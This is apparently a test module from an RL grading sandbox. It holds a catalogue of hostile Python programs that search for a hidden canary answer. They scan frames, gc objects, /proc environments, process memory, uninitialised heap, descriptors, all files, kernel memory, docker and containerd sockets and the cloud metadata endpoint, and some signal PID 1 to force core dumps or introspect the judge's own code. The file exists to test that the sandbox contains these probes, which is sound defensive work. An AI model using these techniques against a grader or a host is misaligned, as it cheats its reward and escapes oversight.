"""Programs that look for the answer in what they can reach: frames, objects, memory, processes, files, descriptors.

The answer is the canary, which no program can work out. Whoever finds it prints it, and would be paid.
"""

from typing import Final

from tests.hostile.programs.entry import Entry
from tests.hostile.programs.references import SECRET, SECRET_CALL

SEEK: Final = """
import re
PATTERN = re.compile("canary" + "-[0-9a-f]{16}")
def seek(text):
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    return PATTERN.findall(text)
"""

MEMORY: Final = """
def memory_of(pid):
    try:
        lines = open(f"/proc/{pid}/maps").readlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    for line in lines:
        start, end = (int(one, 16) for one in line.split()[0].split("-"))
        if " r" in line and "[v" not in line and end - start < 1 << 28:
            try:
                memory.seek(start)
                yield from seek(memory.read(end - start))
            except (OSError, ValueError, OverflowError):
                pass
"""

PLACES: Final = {
    "its own frames": """
import inspect, sys
def found():
    frame = sys._getframe()
    while frame:
        yield from seek(repr(frame.f_locals) + repr(frame.f_globals) + repr(frame.f_code.co_consts))
        frame = frame.f_back
""",
    "the frames of an exception": """
import traceback
def found():
    try:
        1 / 0
    except ZeroDivisionError as error:
        for frame, _ in traceback.walk_tb(error.__traceback__):
            while frame:
                yield from seek(repr(frame.f_locals))
                frame = frame.f_back
""",
    "the frames of all threads": """
import sys
def found():
    for frame in sys._current_frames().values():
        while frame:
            yield from seek(repr({**frame.f_globals, **frame.f_locals}))
            frame = frame.f_back
""",
    "the collector's objects": """
import gc
def found():
    gc.unfreeze()
    for one in gc.get_objects():
        for part in gc.get_referents(one):
            if isinstance(part, (str, bytes)):
                yield from seek(part)
""",
    "who refers to its arguments": """
import gc, sys
def found():
    todo, seen = [sys._getframe()], set()
    while todo and len(seen) < 20000:
        one = todo.pop()
        if id(one) not in seen:
            seen.add(id(one))
            if isinstance(one, (str, bytes)):
                yield from seek(one)
            todo += gc.get_referents(one)
            if len(seen) < 300:
                todo += gc.get_referrers(one)
""",
    "all modules": """
import sys
def found():
    for module in list(sys.modules.values()):
        for value in list(vars(module).values()):
            if isinstance(value, (str, bytes, list, dict, tuple)):
                yield from seek(repr(value))
""",
    "arguments and environment": """
import os, sys
def found():
    yield from seek(repr((sys.argv, sys.orig_argv, dict(os.environ), sys.flags, sys.path, sys._xoptions)))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ", "comm"):
            try:
                yield from seek(open(f"/proc/{pid}/{name}", "rb").read())
            except OSError:
                pass
""",
    "its own memory": MEMORY + """
def found():
    return memory_of("self")
""",
    "its parent's memory": MEMORY + """
import os
def found():
    for pid in (os.getppid(), 1):
        yield from memory_of(pid)
""",
    "its parent's memory by another call": """
import ctypes, os
def found():
    libc = ctypes.CDLL(None, use_errno=True)
    space = ctypes.create_string_buffer(1 << 16)
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    ours = Vector(ctypes.addressof(space), 1 << 16)
    for line in open("/proc/self/maps"):  # the zygote's lies at the same places
        start, end = (int(one, 16) for one in line.split()[0].split("-"))
        for at in range(start, min(end, start + (8 << 20)), 1 << 16):
            theirs = Vector(at, 1 << 16)
            if libc.process_vm_readv(os.getppid(), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) > 0:
                yield from seek(space.raw)
""",
    "memory that was not cleared": """
import ctypes
def found():
    libc = ctypes.CDLL(None)
    libc.malloc.restype = ctypes.c_void_p
    for size in (64, 256, 1024, 4096, 1 << 16, 1 << 20):
        for _ in range(50):
            yield from seek(ctypes.string_at(libc.malloc(size), size))
""",
    "all of /proc": """
import os
def found():
    for folder, names, files in os.walk("/proc"):
        names[:] = [name for name in names if name not in ("sys", "irq", "bus", "acpi", "scsi", "fs", "driver", "tty")]
        for name in files:
            if name in ("kmsg", "kcore", "kpagecount", "kpageflags", "mem", "clear_refs", "kpagecgroup", "kallsyms"):
                continue
            try:
                fd = os.open(f"{folder}/{name}", os.O_RDONLY | os.O_NONBLOCK)
                yield from seek(os.read(fd, 1 << 16))
                os.close(fd)
            except OSError:
                pass
""",
    "all files": """
import os, stat
def found():
    for top in ("/", "/proc/1/root", "/proc/1/cwd", "/proc/self/root"):
        for folder, names, files in os.walk(top):
            skipped = ("proc", "sys", "lib", "lib64", "usr")
            names[:] = [name for name in names if folder not in ("/", "/proc/self/root") or name not in skipped]
            for name in files:
                try:
                    path = f"{folder}/{name}"
                    if stat.S_ISREG(os.stat(path).st_mode):
                        yield from seek(open(path, "rb").read(1 << 22))
                except OSError:
                    pass
""",
    "the judge's files": """
import glob
def found():
    for name in ("tests*", "*.json", "*expected*", "*answer*", "*solution*", "*.out", "*.pkl", "*.jsonl", "*.py"):
        for top in ("/work", "/tmp", "/job", "/opt", "/root", "/home", "/mnt", "/data", "/dev/shm"):
            for path in glob.glob(f"{top}/**/{name}", recursive=True):
                try:
                    yield from seek(open(path, "rb").read())
                except OSError:
                    pass
""",
    "all descriptors": """
import mmap, os
def found():
    for fd in range(1024):
        try:
            size = os.fstat(fd).st_size
        except OSError:
            continue
        os.set_blocking(fd, False)
        for read in (lambda: os.pread(fd, 1 << 20, 0), lambda: os.read(fd, 1 << 20),
                     lambda: mmap.mmap(fd, size + 4096, prot=mmap.PROT_READ)[:], lambda: os.readlink(f"/proc/self/fd/{fd}")):
            try:
                yield from seek(read())
            except (OSError, ValueError):
                pass
""",
    "others' descriptors": """
import glob, os
def found():
    for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/map_files/*"):
        if f"/{os.getpid()}/" in path or "/self/" in path:
            continue
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            yield from seek(os.read(fd, 1 << 20))
        except OSError:
            pass
    for pid in (1, os.getppid()):
        try:
            fd = os.pidfd_open(pid)
        except OSError:
            continue
        import ctypes
        for number in range(20):
            got = ctypes.CDLL(None).syscall(438, fd, number, 0)
            if got >= 0:
                yield from seek(os.read(got, 1 << 16))
""",
    "around its input": """
import mmap, os
def found():
    yield from seek(open("/dev/stdin", "rb").read())
    end = os.fstat(0).st_size
    os.lseek(0, end, os.SEEK_SET)
    yield from seek(os.read(0, 1 << 20))
    yield from seek(os.pread(0, 1 << 20, end))
    if end:
        yield from seek(mmap.mmap(0, 0, prot=mmap.PROT_READ)[:])
    yield from seek(str(os.listxattr(0)))
""",
    "its own stdout": """
import os
def found():
    for number in (1, 2):
        try:
            fd = os.open(f"/proc/self/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
            yield from seek(os.read(fd, 1 << 16))
        except OSError:
            pass
""",
    "the kernel's log and memory": """
import ctypes
def found():
    space = ctypes.create_string_buffer(1 << 16)
    if ctypes.CDLL(None).klogctl(3, space, 1 << 16) > 0:
        yield from seek(space.raw)
    for name in ("/dev/kmsg", "/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/kmsg", "/dev/port"):
        try:
            yield from seek(open(name, "rb", 0).read(1 << 16))
        except OSError:
            pass
""",
    "the engine and the network": """
import socket
def found():
    for family, address in ((socket.AF_UNIX, "/var/run/docker.sock"), (socket.AF_UNIX, "/run/containerd/containerd.sock"),
                            (socket.AF_INET, ("169.254.169.254", 80)), (socket.AF_INET, ("127.0.0.1", 2375))):
        try:
            with socket.socket(family) as sock:
                sock.settimeout(0.2)
                sock.connect(address)
                sock.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
                yield from seek(sock.recv(1 << 16))
        except OSError:
            pass
""",
    "a core of the zygote": """
import os
def found():
    for pid in (1, os.getppid()):
        for number in (3, 6, 11, 31):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    for name in os.listdir("."):
        yield from seek(open(name, "rb").read())
""",
    "the names of the judge's code": """
import gc, sys
def found():
    for one in gc.get_objects():
        if type(one).__name__ in ("StdinTest", "FunctionTest", "Case", "StdinReference", "Sandbox", "Channel"):
            yield from seek(repr(one))
    for name in ("rlvr", "rlvr.rewards", "rlvr.sandbox.programs.inside.agent", "__main__"):
        yield from seek(repr(vars(sys.modules[name])) if name in sys.modules else "")
""",
}

PRINT: Final = "print(next(iter(found()), 'nothing'))\n"
RETURN: Final = "def find(n):\n    one = next(iter(found()), 'nothing')\n    return one if n == 1 else [one, {'key': one}]\n"
_WEAK: Final = {"a core of the zygote": "VIOLATION TLE RE"}

LEAKS: Final = [
    *(Entry(name, SECRET, "WA TLE", SEEK + place + PRINT, _WEAK.get(name, "")) for name, place in PLACES.items()),
    *(
        Entry(f"{name}, from a call", SECRET_CALL, "WA TLE", SEEK + place + RETURN, _WEAK.get(name, ""))
        for name, place in PLACES.items()
    ),
]
